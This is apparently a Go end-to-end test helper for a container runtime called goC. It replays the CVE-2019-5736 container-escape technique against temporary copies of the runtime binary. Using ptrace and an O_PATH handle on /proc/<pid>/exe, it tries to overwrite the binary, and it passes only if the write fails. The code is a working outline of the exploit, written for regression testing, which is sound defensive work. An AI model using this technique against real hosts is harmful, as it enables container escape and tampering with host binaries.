package e2e

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"syscall"

	"golang.org/x/sys/unix"
)

// exe-attack GOC ARGS… replays CVE-2019-5736 against a copy of GOC (and
// of the goC-init beside it, from stage 4 on), run with ARGS (run ROOTFS
// /bin/true, or exec ID /bin/true).
//
// A hostile container gets hold of the runtime binary that enters it: it
// opens /proc/<pid>/exe (O_PATH) of the runtime's process while that runs
// inside the container, and once the process is gone reopens the link for
// writing and overwrites the host's binary. Here the tracer plays the
// container's root: it stops the process goC starts in the namespaces at
// its first exec (ptrace), takes the same O_PATH descriptor, lets
// everything run to the end and then tries the write. It prints what
// happened and exits 0 only if the write failed and the binaries are intact.
func exeAttack() {
	if len(os.Args) < 3 {
		fatalf("usage: exe-attack goC args…")
	}
	src, err := exec.LookPath(os.Args[1])
	if err == nil {
		src, err = filepath.EvalSymlinks(src)
	}
	if err != nil {
		fatalf("exe-attack: %v", err)
	}
	// Attack copies: a vulnerable goC must not take the binaries under
	// test down with it.
	dir, err := os.MkdirTemp("", "goC-victim-")
	if err != nil {
		fatalf("exe-attack: %v", err)
	}
	defer os.RemoveAll(dir)
	var victims []string
	for _, name := range []string{"goC", "goC-init"} {
		if _, err := os.Stat(filepath.Join(filepath.Dir(src), name)); err == nil {
			victims = append(victims, filepath.Join(dir, name))
			copyFile(filepath.Join(filepath.Dir(src), name), victims[len(victims)-1])
		}
	}
	before := digest(victims...)

	fd, link, status := traceFirstExec(victims[0], os.Args[2:]...)
	if fd < 0 {
		fatalf("exe-attack: never saw goC's init exec (goC exited %d)", status)
	}
	fmt.Printf("goC exited %d; its init ran %s\n", status, link)

	w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY, 0)
	if err == nil {
		_, err = w.Write([]byte("#!/bin/sh\necho pwned\n"))
		w.Close()
	}
	intact := bytes.Equal(before, digest(victims...))
	switch {
	case err != nil && intact:
		fmt.Printf("write refused: %v\nhost binary intact\n", err)
	case intact:
		fmt.Println("write went through, but not into the host binary")
	default:
		fmt.Println("host binary overwritten")
		os.Exit(1)
	}
	if err == nil {
		os.Exit(1)
	}
}

// traceFirstExec runs name under ptrace, following its children, and
// returns an O_PATH descriptor of the first program a child of it execs.
func traceFirstExec(name string, args ...string) (fd int, link string, status int) {
	runtime.LockOSThread() // every ptrace request must come from the tracing thread
	cmd := exec.Command(name, args...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Ptrace: true}
	if err := cmd.Start(); err != nil {
		fatalf("exe-attack: %v", err)
	}
	pid := cmd.Process.Pid
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
		fatalf("exe-attack: wait: %v", err)
	}
	opts := unix.PTRACE_O_TRACECLONE | unix.PTRACE_O_TRACEFORK | unix.PTRACE_O_TRACEVFORK |
		unix.PTRACE_O_TRACEEXEC | unix.PTRACE_O_EXITKILL
	if err := unix.PtraceSetOptions(pid, opts); err != nil {
		fatalf("exe-attack: ptrace options: %v", err)
	}
	_ = unix.PtraceCont(pid, 0)

	fd, status = -1, -1
	for {
		wpid, err := unix.Wait4(-1, &ws, unix.WALL, nil)
		if err == unix.ECHILD {
			return fd, link, status
		}
		if err != nil {
			fatalf("exe-attack: wait: %v", err)
		}
		switch {
		case ws.Exited() || ws.Signaled():
			if wpid == pid {
				status = ws.ExitStatus()
				if ws.Signaled() {
					status = 128 + int(ws.Signal())
				}
			}
		case ws.Stopped() && ws.StopSignal() == unix.SIGTRAP:
			if ws.TrapCause() == unix.PTRACE_EVENT_EXEC && wpid != pid && fd < 0 {
				p := fmt.Sprintf("/proc/%d/exe", wpid)
				fd, err = unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
				if err != nil {
					fatalf("exe-attack: open %s: %v", p, err)
				}
				link, _ = os.Readlink(p)
			}
			_ = unix.PtraceCont(wpid, 0)
		case ws.Stopped() && ws.StopSignal() == unix.SIGSTOP:
			_ = unix.PtraceCont(wpid, 0) // a new tracee's first stop
		case ws.Stopped():
			_ = unix.PtraceCont(wpid, int(ws.StopSignal())) // deliver it
		}
	}
}

func copyFile(src, dst string) {
	in, err := os.Open(src)
	if err != nil {
		fatalf("copy: %v", err)
	}
	defer in.Close()
	out, err := os.OpenFile(dst, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o755)
	if err != nil {
		fatalf("copy: %v", err)
	}
	if _, err := io.Copy(out, in); err != nil {
		fatalf("copy: %v", err)
	}
	if err := out.Close(); err != nil {
		fatalf("copy: %v", err)
	}
}

// digest is the checksum of the files' contents, one after the other.
func digest(files ...string) []byte {
	h := sha256.New()
	for _, p := range files {
		b, err := os.ReadFile(p)
		if err != nil {
			fatalf("read %s: %v", p, err)
		}
		h.Write(b)
	}
	return h.Sum(nil)
}
